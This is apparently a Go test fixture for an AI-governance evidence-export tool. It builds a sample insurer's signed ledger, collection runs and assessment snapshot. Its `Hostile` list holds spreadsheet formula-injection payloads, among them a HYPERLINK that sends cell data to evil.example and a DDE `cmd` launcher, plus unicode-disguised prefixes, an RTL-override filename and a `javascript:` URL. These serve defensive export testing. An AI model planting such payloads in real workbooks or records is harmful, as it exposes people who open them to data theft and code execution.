package exporttest

import (
	"context"
	"fmt"
	"slices"
	"time"

	"github.com/exhibit-aims/exhibit/internal/assess"
	"github.com/exhibit-aims/exhibit/internal/evidence"
	"github.com/exhibit-aims/exhibit/internal/export"
)

// AsOf is the as-of of every sample.
var AsOf = time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)

// Hostile are texts that a source could send to harm who opens the workbook.
var Hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`+1+1`, `-2+3`, `@SUM(A1:A9)`,
	"\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", "\u00a0=1+1", "\u200b=1+1", "\uFEFF=1+1",
	"＝1+1", "＋1", "－1", "＠SUM(A1)", "\u22121",
	"_x003D_1+1", "_x000D_", "_x005F_x003D_1",
	"'=1+1", "'quoted",
	"\x00\x01\x1b[31mred\x7f", "bad\xff\xfeutf8", "\u202Efdp.exe", "\u2028line\u2029para",
	"]]><c><f>1+1</f></c>", `"&<>'`, "\ufffe\uffff", "😀 emoji", "line one\nline two",
}

// Sample is a snapshot with everything that verifies it.
type Sample struct {
	Key      Key
	Ledger   *Ledger
	Snapshot *export.Snapshot
}

// New makes the sample organisation.
func New() (*Sample, error) {
	key, err := NewKey("exhibit/test")
	if err != nil {
		return nil, err
	}
	s := &Sample{Key: key, Ledger: NewLedger()}
	digests, err := s.entries()
	if err != nil {
		return nil, err
	}
	size := int64(len(s.Ledger.Lines))
	_, at, err := s.Ledger.Checkpoint(size, key.Signer)
	if err != nil {
		return nil, err
	}
	a := assessment(digests)
	a.Checkpoint = assess.Checkpoint{Size: at.Size, Root: at.Root.String()}
	// The ledger goes on after the assessment, as it does in life.
	for _, typ := range []evidence.EntryType{evidence.EntryAssessment, evidence.EntryExport, evidence.EntryExport} {
		if err := s.Ledger.AppendEntry(evidence.NewEntry(typ, AsOf, []byte(`{"note":"later"}`))); err != nil {
			return nil, err
		}
	}
	note, _, err := s.Ledger.Checkpoint(int64(len(s.Ledger.Lines)), key.Signer)
	if err != nil {
		return nil, err
	}
	s.Snapshot = &export.Snapshot{
		Organisation: "Nordlicht Versicherung & Co", Scope: "Development and operation of AI for claims handling.",
		Roles: []string{"developer", "user"}, AsOf: AsOf,
		Period:      &evidence.Period{From: AsOf.AddDate(-1, 0, 0), To: AsOf},
		GeneratedBy: "s.lindqvist", ToolVersion: "0.1.0",
		Assessment: a, Controls: controlInfo(), Expectations: expectations(), Kinds: kinds(), Systems: systems(),
		Waivers: waivers(), Runs: s.runs(), Checkpoint: note, PublicKey: key.Public, Ledger: s.Ledger,
	}
	return s, nil
}

func (s *Sample) runs() []evidence.Run {
	at := func(h int) time.Time { return AsOf.Add(time.Duration(h) * time.Hour) }
	prov := func(source, connector, method string) evidence.Provenance {
		return evidence.Provenance{Agent: "exhibit 0.1.0", Source: source, Connector: connector, ConnectorVersion: "0.3.1",
			Binary: evidence.Sum([]byte(connector)).String(), Identity: "app/exhibit-reader", Method: method, Reliability: "direct_api"}
	}
	pr := evidence.KindRead{Coverage: "complete", Enumerated: true, Query: "GET /repos/{o}/{r}/pulls?state=closed", IndependentCount: 14, Seen: 14, New: 14}
	again := pr
	again.New, again.Unchanged = 0, pr.Seen
	return []evidence.Run{
		{ID: "run-0001", Provenance: prov("github", "github", "api"), StartedAt: at(-50), FinishedAt: at(-49), Status: evidence.RunPartial,
			Kinds: map[string]evidence.KindRead{"github.pull_request": pr, "github.branch_protection": {Coverage: "partial", IndependentCount: -1, Seen: 1, New: 1}},
			Gaps: []evidence.Gap{{Kinds: []string{"github.branch_protection"}, Scope: "nordlicht/claims-model", Reason: "denied",
				Permission: "administration:read", Detail: "403 on the protection of the default branch"}},
			Calls: evidence.CallCounts{Requests: 61, NotModified: 12, Retries: 1, Bytes: 91_000}},
		{ID: "run-0002", Provenance: prov("register", "register", "file"), StartedAt: at(-26), FinishedAt: at(-26).Add(time.Minute), Status: evidence.RunComplete,
			Kinds: map[string]evidence.KindRead{"inventory.ai_system": {Coverage: "complete", Enumerated: true, IndependentCount: -1, Seen: 3, New: 3},
				"risk.assessment": {Coverage: "complete", Enumerated: true, IndependentCount: -1, Seen: 1, New: 1}}},
		{ID: "run-0003", Provenance: prov("jira", "jira", "api"), StartedAt: at(-25), FinishedAt: at(-25).Add(time.Minute), Status: evidence.RunFailed,
			Error: "credential refused (401)"},
		{ID: "run-0004", Provenance: prov("github", "github", "api"), StartedAt: at(-2), FinishedAt: at(-1), Status: evidence.RunComplete,
			Kinds: map[string]evidence.KindRead{"github.pull_request": again, "github.branch_protection": {Coverage: "complete", Enumerated: true, IndependentCount: 2, Seen: 2, New: 1, Unchanged: 1},
				"jira.issue": {Coverage: "complete", Enumerated: true, IndependentCount: -1, Seen: int64(len(Hostile)), New: int64(len(Hostile))}},
			Calls: evidence.CallCounts{Requests: 40, NotModified: 39}},
	}
}

// entries fills the ledger and returns the digests of its evidence, in order.
func (s *Sample) entries() ([]evidence.Digest, error) {
	var digests []evidence.Digest
	for i, run := range s.runs() {
		l := s.Ledger
		l.Sources[run.ID] = run.Provenance.Source
		if err := l.AppendEntry(evidence.RunOpened(run, run.StartedAt)); err != nil {
			return nil, err
		}
		for _, item := range items(i, run) {
			d, err := l.AppendEvidence(run.FinishedAt, item.ev, item.payload)
			if err != nil {
				return nil, err
			}
			digests = append(digests, d)
		}
		if err := l.AppendEntry(evidence.RunClosed(run, run.FinishedAt)); err != nil {
			return nil, err
		}
	}
	return digests, nil
}

type item struct {
	ev      evidence.Evidence
	payload string
}

// items is what each run of the sample read.
func items(i int, run evidence.Run) []item {
	var out []item
	add := func(kind, typ, id, key, url, payload string, age time.Duration) {
		ev := evidence.Evidence{Run: run.ID, Kind: kind, Major: 1, Subject: evidence.Subject{Type: typ, ID: id}, Key: key, Revision: 1,
			URL: url, CollectedAt: run.FinishedAt.Add(-time.Second)}
		if age > 0 {
			ev.EventTime = AsOf.Add(-age)
		}
		out = append(out, item{ev, payload})
	}
	day := 24 * time.Hour
	switch i {
	case 0:
		for n := range 14 {
			add("github.pull_request", "change", fmt.Sprintf("nordlicht/claims-model#%d", 100+n), fmt.Sprintf("claims-model/%d", 100+n),
				fmt.Sprintf("https://github.example/nordlicht/claims-model/pull/%d", 100+n),
				fmt.Sprintf(`{"number":%d,"author":"a.berg","merged_by":"m.ek","title":"Tune threshold %d"}`, 100+n, n), time.Duration(n*9+3)*day)
		}
		add("github.branch_protection", "repository", "nordlicht/triage-bot", "triage-bot/main", "https://github.example/nordlicht/triage-bot/settings/branches",
			`{"required_approvals":0,"enforce_admins":false}`, 0)
	case 1:
		for _, sys := range systems() {
			add("inventory.ai_system", "ai_system", sys.ID, sys.ID, "", fmt.Sprintf(`{"system_id":%q,"risk_tier":%q}`, sys.ID, sys.Tier), 40*day)
		}
		add("risk.assessment", "ai_system", "claims-triage", "RA-1", "", `{"assessment_id":"RA-1","approved_by":"s.lindqvist"}`, 401*day)
	case 3:
		for n, h := range Hostile {
			add("jira.issue", "record", fmt.Sprintf("AI-%d", n), fmt.Sprintf("issue %d %s", n, ValidText(h)), "javascript:alert(1)",
				fmt.Sprintf(`{"n":%d}`, n), 5*day)
		}
		add("github.branch_protection", "repository", "nordlicht/claims-model", "claims-model/main",
			"https://github.example/nordlicht/claims-model/settings/branches", `{"required_approvals":2,"enforce_admins":true}`, 0)
	}
	return out
}

// ValidText is s as a ledger line can hold it: valid UTF-8.
func ValidText(s string) string { return string([]rune(s)) }

// Shrink leaves only the first n evidence items, and the results that need no
// others, so that tests which try every byte are quick.
func (s *Sample) Shrink(n int) {
	kept := 0
	keep := map[evidence.Digest]bool{}
	s.Ledger.Keep = func(ev evidence.Evidence) bool {
		if keep[ev.Digest] {
			return true
		}
		if kept < n {
			kept++
			keep[ev.Digest] = true
			return true
		}
		return false
	}
	for range s.Ledger.Used(context.Background()) {
	}
	a := s.Snapshot.Assessment
	needs := func(r *assess.Result) bool {
		return slices.ContainsFunc(r.Evidence, func(d evidence.Digest) bool { return !keep[d] })
	}
	a.Results = slices.DeleteFunc(a.Results, needs)
	for i := range a.Controls {
		a.Controls[i].Results = slices.DeleteFunc(a.Controls[i].Results, needs)
	}
	a.Controls = slices.DeleteFunc(a.Controls, func(c assess.Control) bool { return len(c.Results) == 0 })
	s.Snapshot.Waivers, s.Snapshot.Systems = s.Snapshot.Waivers[:1], s.Snapshot.Systems[:1]
}

// EraseFirst erases the payload of the first evidence item, as a store would:
// the bytes go, an entry says so, and a new checkpoint covers it.
func (s *Sample) EraseFirst(fatal func(...any)) {
	for ev, err := range s.Ledger.Used(context.Background()) {
		if err != nil {
			fatal(err)
		}
		s.Ledger.Erased[ev.PayloadSum] = true
		delete(s.Ledger.Payloads, ev.PayloadSum)
		er := evidence.Erasure{Payload: ev.PayloadSum, By: "s.lindqvist", Reason: "asked by the person concerned"}
		if err := s.Ledger.AppendEntry(evidence.ErasureEntry(er, AsOf)); err != nil {
			fatal(err)
		}
		break
	}
	var err error
	if s.Snapshot.Checkpoint, _, err = s.Ledger.Checkpoint(int64(len(s.Ledger.Lines)), s.Key.Signer); err != nil {
		fatal(err)
	}
}
